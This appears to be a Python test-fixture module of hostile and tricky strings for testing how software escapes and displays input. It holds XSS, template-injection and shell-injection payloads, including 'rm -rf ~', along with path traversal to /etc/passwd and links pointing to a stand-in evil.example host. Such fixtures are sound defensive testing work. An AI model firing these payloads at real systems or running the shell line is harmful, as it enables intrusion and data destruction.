"""Text that means harm, or that programs stumble over. Whatever would run sets `window.__xss`."""

FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
"""One picture made of four, with joiners between them."""

MARKUP = (
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=1">',
    '<svg onload="window.__xss=1"></svg>',
    '<a href="javascript:window.__xss=1">here</a>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '"><details open ontoggle=window.__xss=1>',
    "</textarea></title><script>window.__xss=1</script>",
    "<style>*{display:none!important}</style>",
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<form action="http://evil.example/"><input name=password autofocus onfocus=window.__xss=1>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
)
MARKDOWN = (
    "[here](javascript:window.__xss=1)",
    "![there](http://evil.example/there.png)",
    "# heading **bold** `code` <b>bold</b>",
    "$$\\href{javascript:window.__xss=1}{x}$$ $x^2$",
)
TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('window.__xss=1')()}}${window.__xss=1}",
    "{% import os %}{{ os.popen('id').read() }}",
    "%s%n%x {0.__class__} %(name)s",
    "');window.__xss=1;//",
    "`id` $(id); rm -rf ~ && cat &",
)
FORMULAS = ('=HYPERLINK("http://evil.example/","here")', "+1+1", "-2+3", "@SUM(1)")
NAMES = (
    "javascript:window.__xss=1",
    "../../../../etc/passwd",
    "C:\\Windows\\system32\\config",
    "__proto__",
    "constructor",
    "undefined",
    "'\"\\'\\\"--",
    "&lt;b&gt; &amp; &#60;script&#62;",
)
INVISIBLE = (
    "abc\u202egpj.exe",
    "zero\u200bwidth\u2060joined\ufeff",
    f"family {FAMILY} flag \U0001f1f3\U0001f1f4",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349a\u0337lgo",
)
LONG = "w" * 10_000
LAST = "<!-- a comment that never ends"
"""Would hide what comes behind it."""

LABELS = (*MARKUP, *MARKDOWN, *TEMPLATES, *FORMULAS, *NAMES)
"""As labels too: nothing in them is invisible."""
TEXTS = (*LABELS, *INVISIBLE, LAST)
LINE = " ".join(TEXTS)
"""All of them in one line."""
ESCAPES = "\x1b[31mred\x1b]0;title\x07\x1b[2J"
"""What terminals obey."""


def shown(text: str) -> str:
    """As a page shows it: spaces at the ends and runs of them do not count, nor what draws nothing."""
    return " ".join(text.replace("\u200b", "").split())
